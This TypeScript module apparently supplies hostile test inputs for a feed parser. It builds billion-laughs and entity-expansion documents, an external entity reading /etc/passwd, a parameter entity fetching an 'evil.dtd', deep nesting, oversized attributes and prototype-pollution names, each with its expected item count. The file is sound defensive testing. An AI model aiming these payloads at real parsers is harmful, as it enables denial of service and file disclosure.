/** A document made to hurt its reader; `entries` is how many have to be found in it all the same, null if that does not matter. */
export interface HostilePayload {
	name: string;
	make: () => string;
	entries: number | null;
}

const MEGABYTE = 1_000_000;

const rss = (inside: string, doctype = ""): string =>
	`<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>t</title>${inside}</channel></rss>`;
const item = (inside: string): string => `<item><guid isPermaLink="false">1</guid>${inside}</item>`;

/** The attacks on parsers of XML that have names, and what else is quadratic, deep or large in some reader. */
export const HOSTILE_PAYLOADS: HostilePayload[] = [
	{
		name: "billion laughs",
		make: () => {
			const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
			return rss(item("<title>&l9;</title>"), `<!DOCTYPE rss [<!ENTITY l0 "lol">${levels}]>`);
		},
		entries: 1,
	},
	{
		name: "one large entity repeated",
		make: () =>
			rss(item(`<title>${"&a;".repeat(100_000)}</title>`), `<!DOCTYPE rss [<!ENTITY a "${"a".repeat(100_000)}">]>`),
		entries: 1,
	},
	{
		name: "an external entity",
		make: () => rss(item("<title>&x;</title>"), '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
		entries: 1,
	},
	{
		name: "a parameter entity",
		make: () =>
			rss(
				item("<title>t</title>"),
				'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p; <!-- don\'t > ]> -->]>',
			),
		entries: 1,
	},
	{
		name: "a DOCTYPE that does not end",
		make: () => `<!DOCTYPE rss [<!ENTITY a "${"<".repeat(MEGABYTE)}`,
		entries: null,
	},
	{
		name: "200,000 nested elements",
		make: () => rss(item(`<description>${"<a>".repeat(200_000)}x${"</a>".repeat(200_000)}</description>`)),
		entries: 1,
	},
	{
		name: "200,000 nested elements that end in another order",
		make: () => rss(item(`${"<a>".repeat(200_000)}${"</b>".repeat(200_000)}`)),
		entries: 1,
	},
	{
		name: "200,000 nested elements of escaped HTML",
		make: () => rss(item(`<description>${"&lt;i&gt;".repeat(200_000)}x${"&lt;/b&gt;".repeat(200_000)}</description>`)),
		entries: 1,
	},
	{
		name: "5 MB of character references",
		make: () => rss(item(`<title>${"&#65;".repeat(MEGABYTE)}</title>`)),
		entries: 1,
	},
	{
		name: "an attribute of 10 MB",
		make: () => rss(item(`<enclosure url="${"a".repeat(10 * MEGABYTE)}"/><title>t</title>`)),
		entries: 1,
	},
	{
		name: "50,000 items in 10 MB",
		make: () =>
			rss(
				Array.from(
					{ length: 50_000 },
					(_, i) =>
						`<item><title>${i} &amp;</title><link>https://daily.example/${i}</link><guid>https://daily.example/${i}</guid><pubDate>Thu, 01 Jan 2004 19:48:21 GMT</pubDate><description>&lt;p&gt;${i}&lt;/p&gt;</description></item>`,
				).join(""),
			),
		entries: 50_000,
	},
	{
		name: "300,000 attributes of one element",
		make: () => rss(item(`<category ${Array.from({ length: 300_000 }, (_, i) => `a${i}="1"`).join(" ")}>c</category>`)),
		entries: 1,
	},
	{
		name: "100,000 namespaces, each on an element in the one before",
		make: () => rss(item(Array.from({ length: 100_000 }, (_, i) => `<n${i}:a xmlns:n${i}="http://n/${i}">`).join(""))),
		entries: 1,
	},
	{ name: "a million empty elements", make: () => rss(item("<a/>".repeat(MEGABYTE))), entries: 1 },
	{ name: "a million categories", make: () => rss(item("<category>c</category>".repeat(MEGABYTE / 4))), entries: 1 },
	{ name: 'a megabyte of "<"', make: () => rss(item(`<title>${"<".repeat(MEGABYTE)}`)), entries: 1 },
	{
		name: "a megabyte of bare ampersands",
		make: () => rss(item(`<title>${"& ".repeat(MEGABYTE)}</title>`)),
		entries: 1,
	},
	{
		name: "20,000 items whose CDATA does not end",
		make: () => rss(item("<description><![CDATA[<p>text</p></description>").repeat(20_000)),
		entries: 20_000,
	},
	{
		name: "comments that do not end, in HTML",
		make: () => rss(item(`<description><![CDATA[${"<!-- > ".repeat(200_000)}]]></description>`)),
		entries: 1,
	},
	{
		name: "tags that do not end, in HTML",
		make: () => rss(item(`<description><![CDATA[x>${"<br <a href='".repeat(200_000)}]]></description>`)),
		entries: 1,
	},
	{
		name: "control characters, U+0000 and lone surrogates",
		make: () => rss(item("<title>a\u0000\u0001\u001b[31m\ud800 \u202eb</title>")),
		entries: 1,
	},
	{
		name: "names of Object.prototype",
		make: () => rss(item('<__proto__ __proto__="1">x</__proto__><constructor/><title toString="1">t</title>')),
		entries: 1,
	},
	{ name: "a document that is cut", make: () => `<rss><channel>${item("<title>a</title>")}<item><title>b`, entries: 2 },
	{
		name: "many line breaks and blanks",
		make: () => rss(item(`<title>${" \n\t".repeat(MEGABYTE)}</title>`)),
		entries: 1,
	},
	{
		name: "JSON, a million items",
		make: () => `{"version":"https://jsonfeed.org/version/1.1","items":[${"{},".repeat(MEGABYTE - 1)}{}]}`,
		entries: MEGABYTE,
	},
	{
		name: "JSON nested 500,000 deep",
		make: () => `{"items":${"[".repeat(500_000)}${"]".repeat(500_000)}}`,
		entries: 0,
	},
];
